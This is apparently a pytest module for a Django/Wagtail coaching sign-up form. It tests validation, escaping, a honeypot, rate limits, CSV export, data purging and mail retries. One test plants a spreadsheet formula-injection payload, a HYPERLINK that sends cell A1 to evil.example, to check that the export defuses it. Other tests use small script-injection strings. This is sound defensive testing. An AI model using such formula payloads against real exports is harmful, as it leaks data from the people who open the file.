"""The coaching sign-up: stored once for the city, emailed, acknowledged, exported, protected."""

import csv
import io
from datetime import timedelta

import pytest
from django.core import mail
from django.core.cache import cache
from django.core.mail.backends.base import BaseEmailBackend
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import timezone
from wagtail.contrib.forms.models import FormSubmission

from home.models import HomePage
from portal.models import OutgoingEmail
from tests.conftest import SharedData, pages_by_language
from tests.factories import create_coaching_page
from tests.outbox_helpers import run_worker, skip_waiting


@pytest.fixture(autouse=True)
def fresh_rate_limits():
    cache.clear()


@SharedData.piece("coaching")
def coaching_pks(below):
    home = HomePage.objects.get(pk=below["home_pages"]["fr"])
    return {lang: page.pk for lang, page in create_coaching_page(home).items()}


@pytest.fixture
def coaching(home_pages):
    """The coaching sign-up page in four languages, shared by this module's tests."""
    return pages_by_language(SharedData.built("coaching"))


def valid_data(**changes):
    data = {
        "shop_name": "Atelier du Vélo",
        "contact": "Jonas Fictif",
        "email": "jonas@atelier.example",
        "phone": "+32 65 00 04 44",
        "district": "jemappes",
        "needs": ["online_shop", "booking"],
        "message": "",
        "consent": "on",
        "homepage": "",
    }
    data.update(changes)
    return {key: value for key, value in data.items() if value is not None}


def test_german_merchant_signs_up_and_gets_a_german_acknowledgement(client, coaching, mailoutbox):
    page = coaching["de"]

    response = client.post(page.url, valid_data())

    assert response.status_code == 200
    assert "Danke, wir rufen Sie bald an." in response.content.decode()
    (submission,) = FormSubmission.objects.all()
    assert submission.page_id == coaching["fr"].pk  # one list for the city team
    data = submission.get_data()
    assert data["shop_name"] == "Atelier du Vélo" and data["language"] == "de"
    assert data["needs"] == "Une boutique en ligne, La réservation en ligne"
    team, ack = mailoutbox
    assert team.to == ["vitrine@mons.example"] and "Atelier du Vélo" in team.body
    assert ack.to == ["jonas@atelier.example"]
    assert ack.subject == "Ihre Coaching-Anfrage"
    assert ack.body == "Guten Tag Jonas Fictif,\nDanke für Ihre Anfrage."


def test_form_labels_are_in_the_visitors_language(client, coaching):
    html = client.get(coaching["nl"].url).content.decode()

    assert "Naam van uw winkel" in html or "winkel" in html.lower()
    assert 'name="consent"' in html and 'name="homepage"' in html


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"email": "not-an-email"}, "Saisissez une adresse de courriel valide."),
        ({"shop_name": ""}, "Champ requis."),
        ({"consent": None}, "Veuillez donner votre consentement"),
        ({"needs": None}, "Champ requis."),
        ({"district": "atlantis"}, "Sélectionnez un choix valide."),
        ({"phone": "<script>alert(1)</script>"}, "Saisissez un numéro de téléphone"),
        ({"shop_name": "x" * 121}, "Assurez-vous que cette valeur comporte au plus 120 caractères"),
    ],
)
def test_bad_input_is_refused_and_nothing_is_stored(client, coaching, mailoutbox, changes, message):
    response = client.post(coaching["fr"].url, valid_data(**changes))

    assert response.status_code == 200
    html = response.content.decode()
    assert "Veuillez corriger les champs signalés ci-dessous." in html
    assert message in html
    assert FormSubmission.objects.count() == 0 and mailoutbox == []


def test_html_in_text_is_stored_as_text_and_shown_escaped(admin_client, client, coaching):
    client.post(coaching["fr"].url, valid_data(message="<b>Bonjour</b><script>x()</script>"))

    html = admin_client.get(
        reverse("wagtailforms:list_submissions", args=[coaching["fr"].pk])
    ).content.decode()

    assert "<script>x()</script>" not in html
    assert "&lt;script&gt;" in html


def test_honeypot_stores_nothing_but_looks_successful(client, coaching, mailoutbox):
    response = client.post(coaching["fr"].url, valid_data(homepage="http://spam.example"))

    assert response.status_code == 200
    assert "Merci, nous vous appelons bientôt." in response.content.decode()
    assert FormSubmission.objects.count() == 0 and mailoutbox == []


def test_a_flood_from_one_address_gets_429(client, coaching):
    statuses = [client.post(coaching["fr"].url, valid_data()).status_code for _ in range(7)]

    assert statuses[:5] == [200] * 5
    assert statuses[5:] == [429, 429]
    assert FormSubmission.objects.count() == 5


def test_editors_export_submissions_as_csv(admin_client, client, coaching):
    client.post(coaching["nl"].url, valid_data(shop_name="Fietsatelier"))
    client.post(coaching["fr"].url, valid_data(shop_name="Atelier du Vélo"))

    response = admin_client.get(
        reverse("wagtailforms:list_submissions", args=[coaching["fr"].pk]) + "?export=csv"
    )

    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    shops = {row[1] for row in rows[1:]}
    assert shops == {"Fietsatelier", "Atelier du Vélo"}
    assert len(rows[0]) == 10


def test_the_export_keeps_a_visitors_formula_inert(admin_client, client, coaching):
    attack = '=HYPERLINK("https://evil.example/?"&A1;"Open")'
    client.post(coaching["fr"].url, valid_data(shop_name=attack))

    response = admin_client.get(
        reverse("wagtailforms:list_submissions", args=[coaching["fr"].pk]) + "?export=csv"
    )

    text = b"".join(response.streaming_content).decode("utf-8-sig")
    (_headings, row) = list(csv.reader(io.StringIO(text)))
    assert row[1] == "'" + attack  # shown as text by Excel and LibreOffice, never run


def test_coaching_requests_are_deleted_after_two_years(client, coaching):
    client.post(coaching["fr"].url, valid_data(shop_name="Ancienne demande"))
    client.post(coaching["nl"].url, valid_data(shop_name="Recente aanvraag"))
    old = FormSubmission.objects.get(form_data__shop_name="Ancienne demande")
    FormSubmission.objects.filter(pk=old.pk).update(
        submit_time=timezone.now() - timedelta(days=731)
    )

    call_command("purge_coaching_requests", stdout=io.StringIO())

    assert [s.get_data()["shop_name"] for s in FormSubmission.objects.all()] == ["Recente aanvraag"]
    with pytest.raises(CommandError, match="--days must be 0 or more"):
        call_command("purge_coaching_requests", "--days", "-1")


class RefusingMailServer(BaseEmailBackend):
    def send_messages(self, messages):
        raise ConnectionRefusedError("Connection refused")


def test_with_the_mail_server_down_the_sign_up_is_kept_and_its_mail_sent_later(
    client, coaching, settings, queued_mail
):
    settings.OUTBOX_DELIVERY_BACKEND = "tests.campaign.test_coaching.RefusingMailServer"

    response = client.post(coaching["nl"].url, valid_data())

    assert response.status_code == 200
    assert FormSubmission.objects.count() == 1
    assert run_worker() == 2  # the team's mail and the acknowledgement, both refused
    waiting = OutgoingEmail.objects.filter(status=OutgoingEmail.PENDING)
    assert waiting.count() == 2 and all(e.next_attempt_at for e in waiting)
    assert run_worker() == 0  # not before the retry delay

    settings.OUTBOX_DELIVERY_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    skip_waiting()
    assert run_worker() == 2
    assert sorted(m.to[0] for m in mail.outbox) == ["jonas@atelier.example", "vitrine@mons.example"]
